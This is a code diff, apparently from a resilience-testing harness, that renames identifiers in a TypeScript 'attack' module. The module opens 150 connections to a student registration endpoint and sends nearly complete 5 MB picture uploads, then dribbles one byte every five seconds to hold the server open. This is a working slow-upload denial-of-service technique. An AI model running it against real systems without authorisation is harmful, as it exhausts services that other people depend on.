@@ -1,4 +1,4 @@
-import { encodeForm, fieldsOfPerson } from '../../registration-form.ts'
+import { createRegistrationFields, encodeForm } from '../../registration-form.ts'
 import type { Attack } from '../attack.ts'
 import { encodeRequest, holdOpen } from '../sockets.ts'
 
@@ -8,25 +8,25 @@ const dribbleEveryMs = 5_000
 
 /** Each sends two pictures but for the last 64 KB, of which a byte comes every five seconds. */
 export const halfSentUploads: Attack = {
-  about: '150 registrations with two 5 MB pictures that never end',
+  summary: '150 registrations with two 5 MB pictures that never end',
   async prepare(target) {
     const picture = Buffer.alloc(fileBytes, 'x')
-    const { type, body } = await encodeForm(fieldsOfPerson('half@example.com'), {
+    const { type, body } = await encodeForm(createRegistrationFields('half@example.com'), {
       aadharFront: picture,
       aadharBack: picture,
     })
     const whole = encodeRequest({ path: '/api/students/register', type, body })
-    const begun = whole.subarray(0, whole.length - missingBytes)
+    const partial = whole.subarray(0, whole.length - missingBytes)
     return (tally, signal) =>
       holdOpen(
         target,
         {
           connections: 150,
-          atOnce: 10,
-          begin(socket) {
-            socket.write(begun)
-            const dribble = setInterval(() => socket.write('x'), dribbleEveryMs)
-            socket.once('close', () => clearInterval(dribble))
+          batchSize: 10,
+          onConnect(socket) {
+            socket.write(partial)
+            const dribbleTimer = setInterval(() => socket.write('x'), dribbleEveryMs)
+            socket.once('close', () => clearInterval(dribbleTimer))
             socket.once('data', () => socket.destroy())
           },
         },
